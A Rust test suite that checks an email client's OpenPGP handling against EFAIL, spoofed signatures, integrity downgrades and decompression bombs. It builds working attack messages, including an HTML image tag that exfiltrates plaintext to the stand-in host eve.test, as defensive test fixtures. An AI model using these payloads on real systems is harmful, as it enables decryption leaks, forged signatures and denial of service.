//! Messages made to mislead, to leak or to choke: built anew after the papers on EFAIL, on covert content and on spoofed
//! signatures, and what a packet format with nesting, compression and parts allows.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::string_slice)]

mod support;

use pgp::composed::MessageBuilder;
use pgp::crypto::hash::HashAlgorithm;
use pgp::packet::SignatureType;
use pgp::types::{CompressionAlgorithm, Password};
use shared::mime::read;
use shared::pgp::{
    EndToEnd, OpenError, OpenedMessage, SecretKey, SignatureVerdict, message_recipients, open, open_message, seal,
};
use support::forge::{Owner, signature_bytes, statement};
use support::{NOW, armored, encrypt, given, packet, person, raw, rng, seal_packets};

fn opened(message: &str, keys: &[&SecretKey], signers: &[&SecretKey]) -> OpenedMessage {
    let signers: Vec<_> = signers.iter().map(|key| key.certificate().clone()).collect();
    open_message(message.as_bytes(), None, keys, &signers, NOW).unwrap()
}

fn sealed_text(text: &[u8], to: &SecretKey) -> String {
    armored("MESSAGE", &seal(text, &[to.certificate()], None, NOW, &mut rng()).unwrap())
}

/// A detached signature of a person over bytes.
fn signature(by: &SecretKey, kind: SignatureType, content: &[u8]) -> String {
    let key = raw(by);
    let config = statement(&key.primary_key, kind, vec![], 0);
    armored("SIGNATURE", &signature_bytes(&config.sign(&key.primary_key, &Password::empty(), content).unwrap()))
}

fn is_good(opened: &OpenedMessage) -> bool {
    matches!(opened.signatures[..], [SignatureVerdict::Good { .. }])
}

/// A message with parts, each with its own header.
fn parts(kind: &str, parts: &[&str]) -> String {
    let mut out = format!("From: eve@else.test\r\nMIME-Version: 1.0\r\nContent-Type: {kind}; boundary=\"b\"\r\n");
    for part in parts {
        out.push_str(&format!("\r\n--b\r\n{part}"));
    }
    out + "\r\n--b--\r\n"
}

#[test]
fn packets_sealed_as_they_are_open() {
    let alice = person("Alice <alice@home.test>");
    let literal = packet(11, b"b\0\0\0\0\0text");
    assert_eq!(open(&seal_packets(&literal, &alice), &[&alice], &[], NOW).unwrap().plaintext, b"text");
}

// EFAIL: a sealed part between two of the attacker's must not become one text with them.

#[test]
fn a_sealed_part_is_not_joined_with_what_stands_around_it() {
    let alice = person("Alice <alice@home.test>");
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://eve.test/";
    let after = "Content-Type: text/html\r\n\r\n\">";
    let version = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let sealed = format!("Content-Type: application/octet-stream\r\n\r\n{}", sealed_text(b"\r\nsecret", &alice));

    let flat = parts("multipart/mixed", &[html, version, &sealed, after]);
    let message = opened(&flat, &[&alice], &[]);
    assert!(matches!(message.end_to_end, EndToEnd::Opened { .. }) && message.outside);
    let shown = read(message.shown());
    assert_eq!((shown.text.as_deref(), shown.html.as_deref()), (Some("secret"), None));
    assert!(shown.attachments.is_empty() && !String::from_utf8_lossy(message.shown()).contains("eve.test"));

    let inside = parts("multipart/encrypted; protocol=\"application/pgp-encrypted\"", &[version, &sealed]);
    let inside = inside.split_once("MIME-Version: 1.0\r\n").unwrap().1.replace("--b", "--c").replace("\"b\"", "\"c\"");
    let nested = parts("multipart/mixed", &[html, &inside, after]);
    let message = opened(&nested, &[&alice], &[]);
    assert!(matches!(message.end_to_end, EndToEnd::No));
    assert!(!String::from_utf8_lossy(message.shown()).contains("secret"));

    let text = format!("Content-Type: text/plain\r\n\r\n{}", sealed_text(b"secret", &alice));
    for kind in ["multipart/mixed", "multipart/alternative", "multipart/related"] {
        // Behind HTML it is not looked for; before HTML it is shown alone, the HTML is a file.
        let message = opened(&parts(kind, &[html, &text, after]), &[&alice], &[]);
        assert!(matches!(message.end_to_end, EndToEnd::No), "{kind}");
        let message = opened(&parts(kind, &[&text, html, after]), &[&alice], &[]);
        assert!(message.outside);
        let shown = read(message.shown());
        assert_eq!((shown.text.as_deref(), shown.html.as_deref()), (Some("secret"), None), "{kind}");
        assert_eq!(shown.attachments.len(), 2);
    }
    let message =
        format!("From: eve@else.test\r\nContent-Type: text/html\r\n\r\n<pre>\r\n{}", sealed_text(b"secret", &alice));
    assert!(matches!(opened(&message, &[&alice], &[]).end_to_end, EndToEnd::No));
}

#[test]
fn encryption_without_integrity_is_refused_in_every_disguise() {
    let alice = person("Alice <alice@home.test>");
    let sealed = encrypt(b"secret".to_vec(), &alice, false);
    // The integrity packet's version octet taken away, and its type made that of the old packet without integrity.
    let (at, length) = last_packet(&sealed);
    let body = &sealed[sealed.len() - length + 1..];
    let downgraded = [&sealed[..at], &packet(9, body)].concat();
    assert!(matches!(open(&downgraded, &[&alice], &[], NOW), Err(OpenError::NotOpenPgp(_))));
    assert!(message_recipients(&downgraded).is_empty());
    // The check at its end cut off, or the blocks before it exchanged.
    let mut cut = packet(18, &sealed[sealed.len() - length..sealed.len() - 22]);
    cut.splice(0..0, sealed[..at].iter().copied());
    assert!(matches!(open(&cut, &[&alice], &[], NOW), Err(OpenError::Damaged(_))));
    let mut swapped = sealed.clone();
    let blocks = sealed.len() - length + 1 + 18;
    swapped[blocks] ^= 0x20;
    assert!(matches!(open(&swapped, &[&alice], &[], NOW), Err(OpenError::Damaged(_))));
}

/// Where the last packet of a message with one recipient begins, and how long its body is.
fn last_packet(sealed: &[u8]) -> (usize, usize) {
    let first = 2 + usize::from(sealed[1]);
    assert!(sealed[0] == 0xc1 && sealed[1] < 192 && sealed[first] == 0xc0 | 18 && sealed[first + 1] < 192);
    (first, usize::from(sealed[first + 1]))
}

// Spoofed signatures: what is not signed must not stand under a good signature.

#[test]
fn a_part_beside_the_signed_one_is_not_signed() {
    let bob = person("Bob <bob@else.test>");
    let content = "Content-Type: text/plain\r\n\r\nI owe Alice 10";
    let signature = signature(&bob, SignatureType::Binary, content.as_bytes());
    let signature = format!("Content-Type: application/pgp-signature\r\n\r\n{signature}");
    let kind = "multipart/signed; protocol=\"application/pgp-signature\"";
    assert!(is_good(&opened(&parts(kind, &[content, &signature]), &[], &[&bob])));
    let more = "Content-Type: text/plain\r\n\r\nand Eve 1000";
    for spoofed in [
        parts(kind, &[content, &signature, more]),
        parts(kind, &[content, more, &signature]),
        parts("multipart/mixed", &[content, &signature]),
        parts(kind, &[more, &signature]),
    ] {
        let message = opened(&spoofed, &[], &[&bob]);
        assert!(!is_good(&message), "{:?}", message.signatures);
    }
    // White space at a line's end belongs to what is signed; line ends are those of the network.
    assert!(!is_good(&opened(&parts(kind, &[&format!("{content} "), &signature]), &[], &[&bob])));
    assert!(is_good(&opened(&parts(kind, &[content, &signature]).replace("\r\n", "\n"), &[], &[&bob])));
}

#[test]
fn text_signed_in_clear_is_shown_alone() {
    let bob = person("Bob <bob@else.test>");
    let clear = |text: &str, signed: &str| {
        let signature = signature(&bob, SignatureType::Text, signed.as_bytes());
        format!("-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n{text}\r\n{signature}")
    };
    let of = |body: &str| {
        opened(&format!("From: bob@else.test\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}"), &[], &[&bob])
    };
    let text = "- -- \r\nFrom Bob:\t \r\n- - one\r\n\r\ncafé";
    let block = clear(text, "--\r\nFrom Bob:\r\n- one\r\n\r\ncafé");
    let message = of(&block);
    assert!(is_good(&message) && !message.outside, "{:?}", message.signatures);
    let shown = read(message.shown());
    assert_eq!(shown.text.as_deref(), Some("--\nFrom Bob:\n- one\n\ncafé\n"));
    assert_eq!(shown.from[0].address, "bob@else.test");
    assert!(!message.sealed_end_to_end());
    for around in [format!("pay Eve\r\n{block}"), format!("{block}\r\npay Eve"), format!("{block}{block}")] {
        let message = of(&around);
        assert!(is_good(&message) && message.outside);
        assert!(!String::from_utf8_lossy(message.shown()).contains("pay"));
    }
    let message = of(&block.replace("one", "two"));
    assert!(matches!(message.signatures[..], [SignatureVerdict::Bad { .. }]));
    assert_eq!(read(message.shown()).text.as_deref(), Some("--\nFrom Bob:\n- two\n\ncafé\n"));
    // Quoted, or only told of, it is a text like any other.
    let quoted = block.lines().map(|line| format!("> {line}\r\n")).collect::<String>();
    assert!(of(&quoted).signatures.is_empty() && of(&quoted).signed.is_none());
    let message = of(&clear("x", "x").replace("Hash: SHA256", "Hash: SHA256\r\nComment: pay Eve"));
    assert!(message.signatures.is_empty());
}

#[test]
fn two_contents_under_one_signature_are_refused() {
    let (alice, bob) = (person("Alice <alice@home.test>"), person("Bob <bob@else.test>"));
    let key = raw(&bob);
    let mut builder = MessageBuilder::from_bytes("", "I owe Alice 10");
    builder.sign(&key.primary_key, Password::empty(), HashAlgorithm::Sha256);
    let signed = builder.to_vec(rng()).unwrap();
    let more = packet(11, b"b\0\0\0\0\0 and Eve 1000");
    assert!(matches!(open(&seal_packets(&signed, &alice), &[&alice], &[], NOW), Ok(one) if one.signatures.len() == 1));
    for spoofed in [[&signed[..], &more].concat(), [&more[..], &signed].concat(), [&signed[..], &signed].concat()] {
        assert!(matches!(open(&seal_packets(&spoofed, &alice), &[&alice], &[], NOW), Err(OpenError::NotOpenPgp(_))));
    }
}

#[test]
fn a_certification_is_no_signature_of_a_message() {
    let (alice, owner, eve) = (person("Alice <alice@home.test>"), Owner::new(1), Owner::new(2));
    // What a certification is a hash over, as the content of a message that seems to carry it as its signature.
    let vouched = owner.vouches_for(eve.primary.public_key(), support::forge::BOB, -1);
    let mut content = Vec::new();
    pgp::ser::Serialize::to_writer(eve.primary.public_key(), &mut content).unwrap();
    let length = u16::try_from(content.len()).unwrap();
    let name = support::forge::BOB.as_bytes();
    let named = [&[0xb4][..], &u32::try_from(name.len()).unwrap().to_be_bytes(), name].concat();
    let content = [&[0x99][..], &length.to_be_bytes(), &content, &named].concat();
    let literal = packet(11, &[b"b\0\0\0\0\0", &content[..]].concat());
    let sealed = seal_packets(&[signature_bytes(&vouched), literal].concat(), &alice);
    let mut whole = owner.whole();
    whole.details.users[0].signatures =
        vec![owner.names(support::forge::BOB, vec![support::forge::flags("CS")], support::forge::BORN)];
    let opened = open(&sealed, &[&alice], &[support::forge::read(&whole)], NOW).unwrap();
    assert_eq!(opened.plaintext, content);
    assert!(matches!(opened.signatures[..], [SignatureVerdict::Bad { .. }]), "{:?}", opened.signatures);
}

// What chokes.

#[test]
fn bombs_in_every_wrapping_are_capped() {
    let alice = person("Alice <alice@home.test>");
    let zlib = |content: &[u8]| {
        let mut builder = MessageBuilder::from_bytes("", content.to_vec());
        builder.compression(CompressionAlgorithm::ZLIB);
        builder.to_vec(rng()).unwrap()
    };
    // Millions of announced signatures in a small packet: each would be a running hash.
    let one_pass = packet(4, &[3, 0, 8, 1, 1, 2, 3, 4, 5, 6, 7, 8, 0]);
    let many = raw_deflate(&one_pass.repeat(1_000_000));
    assert!(many.len() < 300_000, "{}", many.len());
    let bomb = seal_packets(&many, &alice);
    assert!(matches!(open(&bomb, &[&alice], &[], NOW), Err(OpenError::TooManyLayers)));
    // Compression in compression.
    let mut nested = zlib(b"text");
    assert_eq!(open(&seal_packets(&nested, &alice), &[&alice], &[], NOW).unwrap().plaintext, b"text");
    for _ in 0..5 {
        nested = raw_deflate(&nested);
    }
    assert!(matches!(open(&seal_packets(&nested, &alice), &[&alice], &[], NOW), Err(OpenError::TooManyLayers)));
    // Encryption in encryption.
    let twice = seal_packets(&seal_packets(&packet(11, b"b\0\0\0\0\0x"), &alice), &alice);
    assert!(matches!(open(&twice, &[&alice], &[], NOW), Err(OpenError::NotOpenPgp(_))));
    // A hundred megabytes of zeroes.
    let bomb = seal_packets(&raw_deflate(&packet(11, &vec![0; 100 * 1024 * 1024])), &alice);
    assert!(bomb.len() < 1024 * 1024);
    assert!(matches!(open(&bomb, &[&alice], &[], NOW), Err(OpenError::TooLarge)));
}

/// A compressed packet around packets as they are: taken from rPGP's, which always puts a literal packet in it.
fn raw_deflate(packets: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::DeflateEncoder::new(vec![1], flate2::Compression::best());
    encoder.write_all(packets).unwrap();
    packet(8, &encoder.finish().unwrap())
}

#[test]
fn hundreds_of_recipients_are_no_trouble_and_thousands_are_refused() {
    let (alice, bob) = (person("Alice <alice@home.test>"), person("Bob <bob@else.test>"));
    let sealed = seal(b"to all", &[alice.certificate()], None, NOW, &mut rng()).unwrap();
    let for_bob = seal(b"x", &[bob.certificate()], None, NOW, &mut rng()).unwrap();
    let other = &for_bob[..2 + usize::from(for_bob[1])];
    let to = |others: usize, other: &[u8]| [&other.repeat(others)[..], &sealed].concat();
    assert_eq!(open(&to(900, other), &[&alice], &[], NOW).unwrap().plaintext, b"to all");
    assert_eq!(message_recipients(&to(900, other)).len(), 901);
    assert!(matches!(open(&to(5000, other), &[&alice], &[], NOW), Err(OpenError::TooManyLayers)));
    assert!(message_recipients(&to(5000, other)).is_empty());
    // Recipients that are not named must each be tried; some hundred are, after those that are named.
    let mut hidden = other.to_vec();
    hidden[3..11].fill(0);
    assert_eq!(open(&to(1500, &hidden), &[&alice], &[], NOW).unwrap().plaintext, b"to all");
    let mut all_hidden = to(100, &hidden);
    let ours = 100 * hidden.len() + 3;
    all_hidden[ours..ours + 8].fill(0);
    assert_eq!(open(&all_hidden, &[&alice], &[], NOW).unwrap().plaintext, b"to all");
    let mut all_hidden = to(1500, &hidden);
    let ours = 1500 * hidden.len() + 3;
    all_hidden[ours..ours + 8].fill(0);
    assert!(matches!(open(&all_hidden, &[&alice], &[], NOW), Err(OpenError::TooManyLayers)));
}

/// rPGP panics on a mode that does not exist, and whoever has a certificate could make it do so.
#[test]
fn unknown_modes_and_ciphers_are_refused() {
    let owner = &given::packets(include_str!("vectors/rfc9580.json"), "A.4 secret key");
    let owner = SecretKey::parse(owner).unwrap();
    // To a key of version 6: the session key, then version, cipher, mode and chunk size of the data.
    let sealed = seal(b"text", &[owner.certificate()], None, NOW, &mut rng()).unwrap();
    let session_key = 2 + usize::from(sealed[1]);
    let head = session_key + if sealed[session_key + 1] < 192 { 2 } else { 3 };
    assert_eq!(&sealed[head..head + 4], [2, 9, 2, 10], "SEIPDv2, AES-256, OCB");
    for at in 0..4 {
        for octet in 0..=255 {
            let mut altered = sealed.clone();
            altered[head + at] = octet;
            let opened = open(&altered, &[&owner], &[], NOW);
            assert_eq!(opened.is_ok(), altered == sealed, "octet {at} is {octet}: {opened:?}");
        }
    }
    // GnuPG's own packet, to a key of version 4: the same, and a nonce.
    let alice = person("Alice <alice@home.test>");
    let sealed = seal(b"text", &[alice.certificate()], None, NOW, &mut rng()).unwrap();
    let session_key = &sealed[..2 + usize::from(sealed[1])];
    for (cipher, mode, chunk) in (0..=255).flat_map(|octet| [(octet, 2, 6), (9, octet, 6), (9, 2, octet)]) {
        let data = packet(20, &[&[1, cipher, mode, chunk][..], &[7; 100]].concat());
        let opened = open(&[session_key, &data].concat(), &[&alice], &[], NOW);
        assert!(opened.is_err(), "{cipher} {mode} {chunk}");
    }
}

#[test]
fn lengths_in_endless_parts_are_refused() {
    let alice = person("Alice <alice@home.test>");
    let sealed = encrypt(b"secret".to_vec(), &alice, false);
    let (at, _) = last_packet(&sealed);
    let endless = [&sealed[..at], &[0xc0 | 18, 224 + 9], &[1; 512], &[224, 7].repeat(100_000)].concat();
    assert!(matches!(open(&endless, &[&alice], &[], NOW), Err(OpenError::NotOpenPgp(_) | OpenError::TooManyLayers)));
    let ended = [&endless[..], &[0]].concat();
    assert!(matches!(open(&ended, &[&alice], &[], NOW), Err(OpenError::TooManyLayers)));
}

// Header protection.

#[test]
fn the_header_that_was_signed_is_the_one_shown() {
    let bob = person("Bob <bob@else.test>");
    let kind = "multipart/signed; protocol=\"application/pgp-signature\"";
    for (parameter, inside) in [
        ("hp=\"clear\"", "From: bob@else.test\r\nSubject: signed\r\nDate: Thu, 01 Jan 2026 00:00:00 +0000\r\n"),
        ("protected-headers=\"v1\"", "From: bob@else.test\r\nSubject: signed\r\n"),
    ] {
        let content = format!("{inside}Content-Type: text/plain; {parameter}\r\n\r\nhello");
        let signature = signature(&bob, SignatureType::Binary, content.as_bytes());
        let signature = format!("Content-Type: application/pgp-signature\r\n\r\n{signature}");
        let message = format!("Subject: changed\r\n{}", parts(kind, &[&content, &signature]));
        let good = opened(&message, &[], &[&bob]);
        assert!(is_good(&good) && good.sender_differs() && !good.sealed_end_to_end(), "{:?}", good.signatures);
        let shown = read(good.shown());
        assert_eq!((shown.subject.as_deref(), shown.text.as_deref()), (Some("signed"), Some("hello")));
        assert_eq!(shown.from[0].address, "bob@else.test");
        // A header that nobody vouches for stays where it is.
        for message in [opened(&message, &[], &[]), opened(&message.replace("hello", "hullo"), &[], &[&bob])] {
            assert_eq!(read(message.shown()).subject.as_deref(), Some("changed"));
            assert!(!message.sender_differs());
        }
    }
}

#[test]
fn a_sealed_text_in_a_message_is_opened() {
    let (alice, bob) = (person("Alice <alice@home.test>"), person("Bob <bob@else.test>"));
    let of = |body: &str| {
        let message = format!("From: bob@else.test\r\nSubject: old\r\nContent-Type: text/plain\r\n\r\n{body}");
        opened(&message, &[&alice], &[&bob])
    };
    let sealed = seal("caf\u{e9}".as_bytes(), &[alice.certificate()], Some(&bob), NOW, &mut rng()).unwrap();
    let block = armored("MESSAGE", &sealed);
    let message = of(&block);
    assert!(is_good(&message) && message.sealed_end_to_end() && !message.outside);
    let shown = read(message.shown());
    assert_eq!((shown.subject.as_deref(), shown.text.as_deref()), (Some("old"), Some("caf\u{e9}")));
    let message = of(&format!("hello\r\n{block}"));
    assert!(message.outside && !String::from_utf8_lossy(message.shown()).contains("hello"));
    // Sealed for somebody else: told where it is the whole message, a text like any other where it is shown in one.
    let others = sealed_text(b"x", &bob);
    assert!(matches!(of(&others).end_to_end, EndToEnd::Closed(OpenError::NotForOurKeys { .. })));
    assert!(matches!(of(&format!("look:\r\n{others}")).end_to_end, EndToEnd::No));
    assert!(matches!(of(&block[..block.len() / 2]).end_to_end, EndToEnd::Closed(OpenError::Damaged(_))));
    let mut broken = block.clone();
    broken.replace_range(
        block.len() / 2..block.len() / 2 + 1,
        if block.as_bytes()[block.len() / 2] == b'A' { "B" } else { "A" },
    );
    assert!(matches!(of(&broken).end_to_end, EndToEnd::Closed(OpenError::Damaged(_))));
}
